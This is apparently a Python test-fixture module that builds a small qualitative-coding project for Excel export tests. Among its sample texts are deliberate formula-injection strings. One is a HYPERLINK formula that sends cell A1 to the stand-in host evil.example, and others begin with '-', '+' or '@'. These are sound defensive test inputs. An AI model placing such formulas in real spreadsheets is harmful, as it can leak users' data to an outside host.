"""A small hand-made project for the export tests (not a test module).

3 documents with 2 attributes (one value missing), 5 codes in two trees, 2 coders, 12 codings,
a few hostile texts, 4 FOI letters. Every expected number in test_export_excel.py is worked out
by hand from these rows; see the comments there.
"""
from __future__ import annotations

import pandas as pd

from qualkit.models import Code

CODES = [
    Code("barrier", "Barriers to data linkage", description="Anything that stops linkage."),
    Code("barrier.ig", "Information governance", parent="barrier",
         description="Consent, legal basis, data-sharing agreements.", examples=("IG said no",)),
    Code("barrier.systems", "Incompatible systems", parent="barrier"),
    Code("enabler", "Enablers"),
    Code("enabler.leadership", "Leadership", parent="enabler"),
]

DOCUMENTS = pd.DataFrame({
    "document": ["int-01.txt", "int-02.txt", "foi-leeds.txt"],
    "kind": ["transcript", "transcript", "foi"],
    "role": ["parent", "professional", "professional"],
    "region": ["north", "south", None],
})

TEXTS = {
    "s1": "We can't share data because of consent rules.",
    "s2": '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "s3": "-5 children were missed last year because nobody joined the records up across "
          "education, health and social care.",
    "s4": "The new director pushed for it.",
    "s5": "Our systems don't talk to each other.",
    "s6": "IG is a nightmare, honestly.",
    "s7": "+44 is the number to ring.",
    "s8": "@team please look.",
    "s9": "It is in development.",
    "s10": "Leadership made the difference.",
}
DOC_OF = {"s1": "int-01.txt", "s2": "int-01.txt", "s3": "int-01.txt", "s4": "int-01.txt",
          "s5": "int-02.txt", "s6": "int-02.txt", "s7": "int-02.txt", "s8": "int-02.txt",
          "s9": "foi-leeds.txt", "s10": "foi-leeds.txt"}


def segments() -> pd.DataFrame:
    rows, pos = [], {}
    for sid, text in TEXTS.items():
        doc = DOC_OF[sid]
        start = pos.get(doc, 0)
        rows.append({"segment_id": sid, "document": doc,
                     "speaker": "Council" if doc.startswith("foi") else "P1",
                     "start": start, "end": start + len(text), "text": text})
        pos[doc] = start + len(text) + 1
    return pd.DataFrame(rows)


CODINGS_ROWS = [  # segment, code, coder
    ("s1", "barrier.ig", "ana"), ("s1", "barrier.ig", "ben"), ("s1", "barrier.systems", "ben"),
    ("s2", "barrier", "ana"), ("s3", "enabler.leadership", "ana"),
    ("s4", "enabler.leadership", "ana"), ("s4", "enabler.leadership", "ben"),
    ("s5", "barrier.systems", "ana"), ("s6", "barrier.ig", "ben"),
    ("s6", "barrier.systems", "ana"), ("s9", "enabler", "ben"),
    ("s10", "enabler.leadership", "ana"),
]


def codings() -> pd.DataFrame:
    return pd.DataFrame([{"segment_id": s, "document": DOC_OF[s], "code_id": c, "coder": who}
                         for s, c, who in CODINGS_ROWS])


def quotes() -> pd.DataFrame:
    seg = segments().set_index("segment_id")
    rows = []
    for rank, (code, sid) in enumerate([("barrier", "s2"), ("barrier", "s1"),
                                        ("enabler", "s3")]):
        r = seg.loc[sid]
        rows.append({"code_id": code, "rank": rank + 1 if code == "barrier" else 1,
                     "document": r["document"], "speaker": r["speaker"], "start": int(r["start"]),
                     "end": int(r["end"]), "text": r["text"]})
    return pd.DataFrame(rows)


def themes() -> pd.DataFrame:
    return pd.DataFrame({"theme_id": [0, 1], "size": [5, 3],
                         "keywords": [["consent", "systems", "share"], ["director", "leadership"]],
                         "representative": [["s1", "s5"], ["s10"]],
                         "resembles_code": ["barrier", "enabler.leadership"],
                         "score": [0.61, 0.48]})


def agreement() -> pd.DataFrame:
    return pd.DataFrame({"code_id": ["barrier.ig", "enabler.leadership"], "n_units": [10, 10],
                         "percent_agreement": [90.0, 100.0], "cohen_kappa": [0.6153846, 1.0],
                         "krippendorff_alpha": [0.625, 1.0], "prevalence": [0.2, 0.2]})


FOI_DOCUMENTS = pd.DataFrame({
    "document": ["la-1.txt", "la-2.txt", "la-3.txt", "la-4.txt"], "kind": ["foi"] * 4,
    "authority_type": ["unitary", "unitary", "county council", "county council"]})


def foi_answers() -> pd.DataFrame:
    rows = [("la-1.txt", "q1_link_edu_social", "yes", []),
            ("la-1.txt", "q2_datasets", "selected", ["school_census", "cin_census"]),
            ("la-2.txt", "q1_link_edu_social", "no", []),
            ("la-2.txt", "q2_datasets", "none", []),
            ("la-3.txt", "q1_link_edu_social", "in development", []),
            ("la-3.txt", "q2_datasets", "selected", ["school_census"]),
            ("la-4.txt", "q1_link_edu_social", "unclear", []),
            ("la-4.txt", "q2_datasets", "unclear", [])]
    return pd.DataFrame([{"document": d, "question": q, "answer": a, "options": o,
                          "qualifier": None, "confidence": 0.9, "start": 0, "end": 1}
                         for d, q, a, o in rows])
